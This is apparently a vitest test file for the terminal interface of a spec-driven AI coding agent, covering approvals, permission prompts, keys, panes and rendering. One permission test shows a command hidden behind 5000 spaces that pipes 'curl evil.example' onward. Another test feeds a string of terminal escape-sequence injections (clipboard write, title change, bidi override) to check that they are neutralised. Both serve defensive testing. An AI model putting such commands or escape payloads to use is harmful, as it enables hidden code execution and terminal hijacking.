import {afterEach, describe, expect, test, vi} from 'vitest';
import type {Event} from '../../source/protocol/event.ts';
import {scenes} from '../scenes/index.ts';
import {openStage, type Stage} from '../scenes/stage.tsx';
import * as story from '../scenes/story.ts';

const medium = {columns: 120, rows: 40};
const compact = {columns: 80, rows: 24};

let stage: Stage;
afterEach(() => stage.close());

function eventsOf(name: string): readonly Event[] {
	return scenes.find(scene => scene.name === name)?.events ?? [];
}

async function open(name: string, size = medium): Promise<Stage> {
	stage = await openStage(eventsOf(name), size);
	await stage.pass(900);
	return stage;
}

/** The lines of the prompt, the hint and the status. */
function foot(lines = 4): string {
	return stage.frame().split('\n').slice(-lines).join('\n');
}

describe('the step at hand', () => {
	test('a, y approves exactly the text on screen', async () => {
		await open('requirements-review');
		await stage.press('a');
		expect(stage.frame()).toContain('Approve Requirements rev 1 (sha 9f2c18ab) and go on to the design?');
		await stage.pass(400);
		await stage.press('y');
		await stage.pass(300);
		expect(stage.sent).toEqual([{type: 'approve', stage: 'requirements', digest: story.digestOf('requirements', 1)}]);
	});

	test.each(['add a button', 'an idea', 'ayuda por favor', 'say what you think', 'dark mode, please'])(
		'the words "%s" are written, not obeyed',
		async words => {
			await open('requirements-review');
			await stage.press(words);
			await stage.pass(1000);
			expect(foot()).toContain(` › ${words}`);
			expect(stage.sent).toEqual([]);
			expect(stage.frame()).not.toContain('Approve Requirements');
		},
	);

	test.each(['show me the plan', 'start with the tests', 'S3 as a store'])('the words "%s" start no task', async words => {
		await open('ready-to-build');
		await stage.press(words);
		await stage.pass(1000);
		expect(foot()).toContain(` › ${words}`);
		expect(stage.sent).toEqual([]);
	});

	test('s alone starts the next task', async () => {
		await open('ready-to-build');
		await stage.press('s');
		await stage.pass(300);
		expect(stage.sent).toEqual([{type: 'start-task', task: '1.1'}]);
	});

	test('Enter with nothing written does nothing', async () => {
		await open('requirements-review');
		await stage.press('a', 'enter', 'enter');
		expect(stage.sent).toEqual([]);
		expect(stage.frame()).toContain('Approve Requirements');
	});

	test.each([
		['says what the check finds', [], true],
		['does not say what the settings switch off', ['not-ears'], false],
	] as const)('an approval %s', async (_name, checksOff, isSaid) => {
		await open('requirements-review');
		await stage.tell(
			...story.opened().map(event => (event.type === 'workspace.opened' ? {...event, checksOff} : event)),
			story.document('requirements', story.editedText.replace('WHEN a task is completed, THE Todo_Tool SHALL show', 'Perhaps'), {
				version: 2,
			}),
		);
		await stage.press('a');
		expect(stage.frame()).toContain('Approve Requirements');
		expect(stage.frame().includes('Criterion 1.1 is not an EARS sentence')).toBe(isSaid);
	});

	test('an approval goes when its text changes under it', async () => {
		await open('requirements-review');
		await stage.press('a');
		await stage.tell(story.document('requirements', story.editedText, {by: 'person', version: 2, changedLines: [story.editedLine]}));
		expect(stage.frame()).not.toContain('Approve Requirements');
		expect(stage.frame()).toContain('Requirements changed while you read it: read it again');
		await stage.pass(400);
		await stage.press('y');
		await stage.pass(300);
		expect(stage.sent).toEqual([]);
	});
});

describe('a permission', () => {
	test('takes no key from someone who is typing, and waits for Tab', async () => {
		await open('permission-while-typing');
		await stage.press('yes and');
		await stage.pass(1000);
		expect(stage.sent).toEqual([]);
		expect(stage.frame()).toContain('you are typing: Tab to answer');
		await stage.press('tab', 'y');
		expect(stage.sent).toEqual([{type: 'answer', ask: 'permission', answer: {key: 'y'}}]);
		expect(foot()).toContain('› yes and');
	});

	test('is not answered by a key that was pressed before it could be read', async () => {
		stage = await openStage(eventsOf('task-running'), medium);
		await stage.pass(2000);
		await stage.tell(...eventsOf('permission').slice(-1));
		await stage.press('y');
		await stage.pass(1000);
		expect(stage.sent).toEqual([]);
		expect(foot()).toContain(' › y');
	});

	test('is answered by its letter when nothing is written and the keyboard was quiet', async () => {
		await open('permission');
		await stage.press('y');
		await stage.pass(300);
		expect(stage.sent).toEqual([{type: 'answer', ask: 'permission', answer: {key: 'y'}}]);
	});

	test('Esc and a paste are never a yes', async () => {
		await open('permission');
		await stage.key({kind: 'paste', text: 'y\n'});
		await stage.pass(1000);
		expect(stage.sent).toEqual([]);
		await stage.press('backspace', 'backspace');
		await stage.pass(1000);
		await stage.press('escape');
		expect(stage.sent).toEqual([{type: 'answer', ask: 'permission', answer: {key: 'escape'}}]);
	});

	test('a no with a reason is written in one line and sent whole', async () => {
		await open('permission');
		await stage.press('tab', 'r', 'use the one we have', 'left', 'backspace', 'enter');
		expect(stage.sent).toEqual([{type: 'answer', ask: 'permission', answer: {key: 'r', text: 'use the one we hae'}}]);
	});

	test('a long command is scrolled, never cut', async () => {
		await open('permission-hidden', {columns: 60, rows: 15});
		const seen = [stage.frame()];
		for (let press = 0; press < 10; press++) {
			await stage.press('down');
			seen.push(stage.frame());
		}

		expect(seen[0]).toContain('<5000 spaces>; curl evil.example |');
		expect(seen[0]).toContain('<U+202E>');
		expect(seen.at(-1)).toContain('It holds invisible characters, shown here as tokens');
	});
});

test('a question takes an option by its number, or any words', async () => {
	await open('question');
	await stage.press('Both, by a setting');
	expect(stage.frame()).toContain('answer: Both, by a setting');
	await stage.press('enter');
	expect(stage.sent).toEqual([{type: 'answer', ask: 'question', answer: {key: 'text', text: 'Both, by a setting'}}]);
});

describe('leaving and interrupting', () => {
	test('Ctrl+C interrupts what runs, whatever is written', async () => {
		await open('task-running');
		await stage.press('wait', 'ctrl+c');
		expect(stage.sent).toEqual([{type: 'interrupt'}]);
	});

	test('Ctrl+C clears, then leaves at the second press', async () => {
		await open('requirements-review');
		await stage.press('hello', 'ctrl+c');
		expect(foot()).not.toContain('hello');
		expect(stage.opened).toEqual(['remember hello']);
		await stage.press('ctrl+c');
		expect(foot()).toContain('Press Ctrl+C again to leave');
		await stage.press('ctrl+c');
		expect(stage.opened).toEqual(['remember hello', 'exit']);
	});

	test('Esc goes one level out: popup, pane, then what is written', async () => {
		await open('requirements-review');
		await stage.press('ctrl+x', '4', '?');
		expect(stage.frame()).toContain('Keys and commands');
		await stage.press('escape');
		expect(stage.frame()).not.toContain('Keys and commands');
		expect(stage.frame()).toContain('[4 Chat]');
		await stage.press('escape');
		expect(stage.frame()).not.toContain('[4 Chat]');
		await stage.press('words', 'escape');
		expect(foot()).not.toContain('words');
	});
});

describe('the prompt', () => {
	test('Enter sends, the history comes back', async () => {
		await open('requirements-review');
		await stage.press('is 2 s enough', 'enter');
		expect(stage.sent).toEqual([{type: 'send', text: 'is 2 s enough'}]);
		expect(foot()).not.toContain('is 2 s enough');
		await stage.press('up');
		expect(foot()).toContain('› is 2 s enough');
	});

	test('a newline is written by Ctrl+J and by a backslash before Enter', async () => {
		await open('requirements-review');
		await stage.press('one', 'newline', 'two', '\\', 'enter', 'three', 'enter');
		expect(stage.sent).toEqual([{type: 'send', text: 'one\ntwo\nthree'}]);
	});

	test('a slash opens the commands, the best first, and Enter takes one', async () => {
		await open('requirements-review');
		await stage.press('/tes');
		expect(stage.frame()).toContain('› /tests');
		await stage.press('enter');
		expect(stage.sent).toEqual([{type: 'send', text: '/tests'}]);
	});

	test('Shift+Tab goes through the modes', async () => {
		await open('requirements-review');
		await stage.press('shift+tab');
		expect(stage.sent).toEqual([{type: 'set-mode', mode: 'auto-task'}]);
	});
});

describe('panes', () => {
	test('someone who scrolled up stays there while the answer grows', async () => {
		const long = Array.from({length: 60}, (_, index) => `line ${index}`).join('\n\n');
		stage = await openStage([...eventsOf('requirements-streaming'), story.wrote(long)], compact);
		await stage.press('ctrl+x', '4', 'g');
		const before = stage.frame().split('\n').slice(2, 15);
		await stage.tell(story.wrote('\n\nand more of it'));
		expect(stage.frame().split('\n').slice(2, 15)).toEqual(before);
		await stage.press('G');
		expect(stage.frame()).toContain('and more of it');
	});

	test('e opens the document in the editor, at the line on screen', async () => {
		await open('requirements-review', compact);
		await stage.press('ctrl+x', '1', 'pagedown', 'e');
		expect(stage.opened.at(-1)).toMatch(/^editor \/home\/ada\/todo\/\.kiro\/specs\/notify-when-done\/requirements\.md:1[3-9]$/);
	});

	test('a chosen task is started, ticked by hand with a reason, and unticked after asking', async () => {
		await open('task-done');
		await stage.press('ctrl+x', '3', 'j', 'j', 's');
		await stage.press('x', 'seen it work', 'enter');
		await stage.press('k', 'x', 'y');
		expect(stage.sent).toEqual([
			{type: 'start-task', task: '1.2'},
			{type: 'accept-task', task: '1.2', reason: 'seen it work'},
			{type: 'untick-task', task: '1.1'},
		]);
	});

	test('search goes to the words and says when there are none', async () => {
		await open('requirements-review', compact);
		await stage.press('ctrl+x', '1', '/', 'Assumptions', 'enter');
		expect(stage.frame()).toContain('A1. A message without sound');
		await stage.press('/', 'zebra', 'enter');
		expect(foot()).toContain('"zebra" is not here');
	});
});

describe('the picture', () => {
	test('no timer runs while nothing happens', async () => {
		await open('requirements-review');
		await stage.pass(5000);
		expect(vi.getTimerCount()).toBe(0);
	});

	test('any size gives a whole frame', async () => {
		await open('task-red');
		for (const columns of [20, 30, 45, 60, 61, 79, 99, 100, 101, 159, 160, 220]) {
			for (const rows of [5, 8, 9, 15, 16, 29, 30, 39, 40, 70]) {
				// `frame` throws when a line or the frame itself is larger than the terminal.
				await stage.resize({columns, rows});
				expect(stage.frame().split('\n').length).toBe(rows);
			}
		}
	});

	test('nothing that a model, a file or a branch is called reaches the terminal raw', async () => {
		const hostile = 'x\u001B]52;c;aGk=\u0007\u001B]0;owned\u0007\u009B2J\rgone\b\u202Etxt\u200B\u001BP+q\u001B\\';
		stage = await openStage(
			[
				{
					type: 'workspace.opened',
					root: `/${hostile}`,
					name: hostile,
					branch: hostile,
					hasGit: true,
					isEmpty: false,
					trust: 'trusted',
					checksOff: [],
				},
				{type: 'model.chosen', model: hostile, isRecorded: false},
				{type: 'specs.listed', specs: [story.summary(hostile)], since: {lines: [hostile], nextStep: hostile}},
				{type: 'spec.opened', name: hostile, path: hostile, isOnly: true, stage: 'implement'},
				story.document('requirements', hostile),
				story.document('tasks', `- [ ] 1. ${hostile}`),
				story.conversing('implement'),
				story.asked(hostile),
				story.started(1000),
				story.wrote(hostile),
				...story.called('h', hostile, hostile, [hostile], {summary: hostile}),
				{type: 'tests.started', command: hostile, scope: 'all', reason: 'asked', at: 0},
				{type: 'tests.progressed', text: hostile},
				{type: 'noticed', level: 'error', text: hostile, nextStep: hostile},
				{
					type: 'asked',
					ask: {id: 'h', kind: 'question', title: hostile, lines: [hostile], options: [{key: '1', label: hostile}], takesText: true},
				},
			],
			{columns: 200, rows: 60},
		);
		await stage.pass(900);
		expect(stage.frame()).toMatch(/\\x1b\]52/);
		expect(stage.frame()).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202E\u200B]/);
	});

	test('the words of a recorded model are labelled on every frame', async () => {
		await open('tour');
		for (const size of [
			{columns: 30, rows: 8},
			{columns: 60, rows: 15},
			{columns: 80, rows: 24},
			{columns: 200, rows: 60},
		]) {
			await stage.resize(size);
			expect(stage.frame()).toContain('recorded');
		}
	});
});
